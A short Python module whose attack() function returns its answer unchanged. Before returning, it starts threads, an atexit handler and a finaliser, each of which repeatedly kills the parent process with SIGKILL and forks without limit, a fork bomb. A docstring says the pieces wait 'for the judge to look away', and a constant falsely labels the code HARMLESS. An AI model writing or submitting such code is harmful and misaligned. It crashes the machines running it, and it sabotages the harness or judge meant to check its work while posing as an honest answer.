"""Acts after its answer: a thread, an exit handler, a finaliser and a daemon."""

import atexit
import os
import threading
import time

HARMLESS = True
NEEDS = ("other processes", "new processes")


class Last:
    """Says its last word when the program ends."""

    def __del__(self):
        os.kill(os.getppid(), 9)


def attack(answer):
    """All of them wait for the judge to look away."""

    def strike():
        while True:
            time.sleep(0.05)
            try:
                os.kill(os.getppid(), 9)
                os.fork()
            except OSError:
                continue

    for daemon in (True, False):
        threading.Thread(target=strike, daemon=daemon).start()
    atexit.register(strike)
    attack.last = Last()
    return answer
